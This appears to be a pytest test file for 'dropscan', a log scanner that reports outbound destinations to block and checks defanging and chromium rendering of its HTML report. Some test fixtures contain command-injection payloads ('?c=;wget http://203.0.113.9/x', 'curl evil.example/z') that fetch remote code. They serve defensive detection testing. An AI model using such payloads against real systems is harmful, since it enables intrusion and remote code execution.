"""The HTML report a manager opens from a mail: header, the fleet-wide block table with the rules,
readable charts, untimed findings counted, defanged by default; rendered by a real headless
chromium (Debian's), which takes a screenshot and prints it."""

from __future__ import annotations

import json
import re
import shutil
import struct
import subprocess
import zlib
from html.parser import HTMLParser

import pytest

import dropscan
from conftest import SAMPLE_LOGS, cli_run, combined_line
from dropscan.cli import app
from dropscan.outputs.render import html_report
from dropscan.report.egress_report import build_report

CHROMIUM = shutil.which("chromium")
FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]


@pytest.fixture(scope="module")
def sample_html(tmp_path_factory):
    out = tmp_path_factory.mktemp("html") / "report.html"
    from typer.testing import CliRunner

    r = CliRunner().invoke(
        app, ["report", str(SAMPLE_LOGS), "--firewall-log", str(SAMPLE_LOGS / "kern.log"), "-o", str(out)]
    )
    assert r.exit_code == 1, r.stderr
    return out


class _Text(HTMLParser):
    def __init__(self):
        super().__init__()
        self.text: list[str] = []
        self.tags: list[str] = []
        self.svgs: list[dict] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        if tag == "svg":
            self.svgs.append(dict(attrs))

    def handle_data(self, data):
        self.text.append(data)


def parse(doc: str) -> _Text:
    p = _Text()
    p.feed(doc)
    return p


def test_header_block_table_first_then_charts_then_hosts(sample_html):
    doc = sample_html.read_text()
    p = parse(doc)
    text = " ".join(p.text)
    assert "3 of 3 host(s) need egress blocking: block 15 destination(s), 1 confirmed by the firewall log." in text
    assert "Period of the findings: 2026-11-25 11:11:11+01:00 to 2026-11-27 10:05:00+00:00" in text
    assert "covered: 4 file(s) (4 with findings, 0 clean, 0 failed, 0 skipped), 36 lines" in text
    order = [doc.index(x) for x in ('id="block"', "The rules to paste", "Findings per day", "Top destinations",
                                    'id="hosts"', 'class="destinations"')]  # fmt: skip
    assert order == sorted(order)
    assert "script" not in p.tags and "Content-Security-Policy" in doc and "default-src 'none'" in doc
    # the rules beside the table are exact (to paste), the table itself is defanged
    rules = doc[doc.index('<pre class="rules">') : doc.index("</pre>")]
    assert "193.13.87.38," in rules and "table inet dropscan_egress {" in rules
    block = doc[doc.index('id="block"') : doc.index("The rules to paste")]
    assert "193.13.87[.]38" in block and "193.13.87.38" not in block
    # charts large enough to read
    assert [int(s["width"]) >= 700 for s in p.svgs] == [True, True]


def test_block_table_lists_hosts_affected_and_confirmation(runner, tmp_path):
    a, b = tmp_path / "web1-access.log", tmp_path / "web2-access.log"
    a.write_bytes(combined_line("/?c=;wget%20http://203.0.113.9/x"))
    b.write_bytes(combined_line("/?c=;wget%20http://203.0.113.9/y") + combined_line("/?c=;curl%20evil.example/z"))
    rep = json.loads(cli_run(runner, ["report", str(a), str(b), "-f", "json"]).stdout)
    first = rep["destinations"][0]
    assert (first["host"], first["port"], first["scheme"], first["hosts"]) == ("203.0.113.9", 80, "http",
                                                                                ["web1", "web2"])  # fmt: skip
    doc = cli_run(runner, ["report", str(a), str(b), "-f", "html"]).stdout
    row = re.search(r'<table id="block">.*?<tbody>(.*?)</tr>', doc, re.S).group(1)
    assert "203.0.113[.]9" in row and "web1, web2" in row and "reject v4" in row


def test_untimed_findings_are_counted_not_dropped(tmp_path):
    log = tmp_path / "access.log"
    log.write_bytes(
        combined_line("/?c=;wget%20http://203.0.113.9/x")
        + b'203.0.113.1 garbage "GET /?c=;wget%20http://203.0.113.10/x HTTP/1.1" 200 1\n'
    )
    rep = build_report(dropscan.scan(log))
    assert rep.untimed == 1 and rep.as_dict()["untimed_findings"] == 1
    doc = html_report(rep)
    assert "1 finding(s) without a timestamp are not in this chart." in doc
    assert "; 1 finding(s) without a timestamp" in doc


def test_markdown_and_html_defang_by_default_json_stays_exact(runner):
    md = cli_run(runner, ["report", str(SAMPLE_LOGS), "-f", "markdown"]).stdout
    assert r"193.13.87\[.\]38" in md and "193.13.87.38" not in md
    live = cli_run(runner, ["report", str(SAMPLE_LOGS), "-f", "markdown", "--no-defang"]).stdout
    assert "193.13.87.38" in live
    html = cli_run(runner, ["report", str(SAMPLE_LOGS), "-f", "html"]).stdout
    assert "hxxp://193.13.87[.]38" in html
    js = cli_run(runner, ["report", str(SAMPLE_LOGS), "-f", "json"]).stdout
    assert "193.13.87.38" in js and "[.]" not in js


def _png(path) -> tuple[int, int, bytes]:
    """(width, height, inflated pixel rows) of a PNG, read with zlib alone."""
    data = path.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    pos, idat, size = 8, b"", None
    while pos < len(data):
        (n,) = struct.unpack(">I", data[pos : pos + 4])
        kind, body = data[pos + 4 : pos + 8], data[pos + 8 : pos + 8 + n]
        if kind == b"IHDR":
            size = struct.unpack(">II", body[:8])
        elif kind == b"IDAT":
            idat += body
        pos += 12 + n
    return size[0], size[1], zlib.decompress(idat)


@pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium is not installed (.ci/run installs it)")
def test_real_chromium_renders_screenshots_and_prints_it(sample_html, tmp_path):
    profile = tmp_path / "profile"
    url = sample_html.as_uri()

    def chromium(*args):
        return subprocess.run(
            [CHROMIUM, *FLAGS, f"--user-data-dir={profile}", *args, url], capture_output=True, timeout=300
        )

    dom = chromium("--dump-dom").stdout.decode()
    assert "3 of 3 host(s) need egress blocking" in dom and '<table id="block">' in dom
    assert "<script" not in dom.lower()
    shot = tmp_path / "report.png"
    chromium("--window-size=1200,900", f"--screenshot={shot}")
    width, height, pixels = _png(shot)
    assert (width, height) == (1200, 900)
    assert len(set(pixels)) > 50  # drawn: text, table rules, the red verdict; not a blank page
    pdf = tmp_path / "report.pdf"
    chromium("--no-pdf-header-footer", f"--print-to-pdf={pdf}")
    body = pdf.read_bytes()
    assert body.startswith(b"%PDF") and len(re.findall(rb"/Type\s*/Page\b", body)) >= 2
